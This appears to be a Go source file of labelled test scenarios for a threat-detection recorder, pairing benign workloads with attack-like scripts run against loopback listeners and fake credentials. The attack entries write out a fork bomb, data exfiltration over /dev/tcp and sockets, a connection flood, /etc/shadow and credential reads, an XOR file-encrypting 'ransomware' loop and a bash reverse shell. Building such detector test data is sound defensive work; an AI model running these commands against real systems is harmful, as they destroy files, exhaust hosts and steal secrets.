package main

import "aiosfs/engines/threat"

// Scenario is one program run as one agent. Script is bash, run with
// W (a private temp dir, pre-filled by the recorder: W/data, W/docs),
// SECRETS (a dir of fake credentials the recorder watches), PORT (the
// recorder's loopback listener for this scenario) and APORT (a free port
// for the agent to listen on) in its environment. Every network address
// is 127.0.0.1.
type Scenario struct {
	Name   string
	Label  threat.Type
	User   string // "" root; "nobody" runs through setpriv as 65534:65534
	Listen string // what the recorder's listener at PORT does: sink pool shell http
	Drive  bool   // the recorder sends HTTP requests to APORT (a web server under load)
	Pids   int    // pids.max; default 256
	Script string
}

const py = "/usr/bin/python3"

var scenarios = []Scenario{
	// ---- benign ----
	{Name: "compile", Label: threat.Benign, Script: `cat > $W/a.c <<'EOF'
#include <stdio.h>
static int fib(int n){return n<2?n:fib(n-1)+fib(n-2);}
int main(void){printf("%d\n",fib(20));return 0;}
EOF
while :; do gcc -O2 -o $W/a $W/a.c && $W/a >/dev/null; done`},
	{Name: "gzip", Label: threat.Benign, Script: `while :; do cat $W/data/f1* | gzip -c > $W/out.gz; done`},
	{Name: "sqlite", Label: threat.Benign, Script: `for i in $(seq 1 3000); do echo "insert into t values($i,'row $i');"; done > $W/ins.sql
while :; do sqlite3 $W/db.sqlite "create table if not exists t(a,b);" "begin;" ".read $W/ins.sql" "commit;" "select count(*) from t;" >/dev/null; done`},
	{Name: "webserver", Label: threat.Benign, Drive: true, Script: `exec ` + py + ` -m http.server $APORT --bind 127.0.0.1 --directory $W/docs 2>/dev/null`},
	{Name: "download", Label: threat.Benign, Listen: "http", Script: `while :; do curl -s -o $W/dl http://127.0.0.1:$PORT/blob; sleep 0.5; done`},
	{Name: "idle", Label: threat.Benign, Script: `exec sleep 60`},
	{Name: "periodic", Label: threat.Benign, Script: `while :; do date >> $W/log; ls /usr/bin | wc -l >> $W/log; sleep 1; done`},
	{Name: "filescan", Label: threat.Benign, Script: `while :; do find /usr/share -type f -size -64k 2>/dev/null | head -3000 | xargs cat >/dev/null 2>&1; done`},
	{Name: "backup", Label: threat.Benign, Script: `while :; do rm -rf $W/bk; cp -r $W/docs $W/bk; tar cf $W/bk.tar -C $W bk; done`},

	// ---- attack-like ----
	{Name: "forkstorm", Label: threat.ResourceExhaustion, Pids: 64, Script: `f(){ f | f & }; f; wait`},
	{Name: "miner", Label: threat.ResourceExhaustion, Listen: "pool", Script: `exec ` + py + ` -c '
import hashlib, os, socket, time
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])))
s.sendall(b"{\"method\":\"mining.subscribe\",\"params\":[\"xmrig/6.21\"]}\n")
s.recv(4096)
n = 0
while True:
    t = time.time()
    while time.time() - t < 1:
        hashlib.sha256(n.to_bytes(8, "little")).digest(); n += 1
    s.sendall(b"{\"method\":\"mining.submit\",\"nonce\":%d}\n" % n)
'`},
	{Name: "exfil", Label: threat.DataExfiltration, Listen: "sink", Script: `while :; do tar cf - -C $W data > /dev/tcp/127.0.0.1/$PORT; done`},
	{Name: "exfil-slow", Label: threat.DataExfiltration, Listen: "sink", Script: `exec ` + py + ` -c '
import os, socket, time
s = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])))
d = os.environ["W"] + "/data"
while True:
    for f in sorted(os.listdir(d)):
        b = open(os.path.join(d, f), "rb").read()
        for i in range(0, len(b), 65536):
            s.sendall(b[i:i+65536]); time.sleep(0.05)
'`},
	{Name: "connflood", Label: threat.DenialOfService, Listen: "sink", Script: `exec ` + py + ` -c '
import os, socket
p = int(os.environ["PORT"]); socks = []
while True:
    try:
        socks.append(socket.create_connection(("127.0.0.1", p), timeout=1))
    except OSError:
        pass
    if len(socks) >= 400:
        for s in socks[:200]: s.close()
        socks = socks[200:]
'`},
	{Name: "privesc", Label: threat.PrivilegeEscalation, User: "nobody", Script: `while :; do cat /etc/shadow; su -c id root </dev/null; find /usr/bin -perm -4000 -user root; sleep 0.3; done >/dev/null 2>&1`},
	{Name: "credread", Label: threat.UnauthorizedAccess, Script: `while :; do cat /etc/shadow /etc/gshadow $SECRETS/id_rsa $SECRETS/agent-state.db >/dev/null; sleep 0.5; done`},
	{Name: "ransomware", Label: threat.UnauthorizedAccess, Script: `exec ` + py + ` -c '
import os
d = os.environ["W"] + "/docs"
while True:
    for f in sorted(os.listdir(d)):
        p = os.path.join(d, f)
        b = open(p, "rb").read()
        open(p + ".locked", "wb").write(bytes(x ^ 0x5a for x in b))
        os.unlink(p)
'`},
	{Name: "revshell", Label: threat.UnauthorizedAccess, Listen: "shell", Script: `exec bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1`},
}
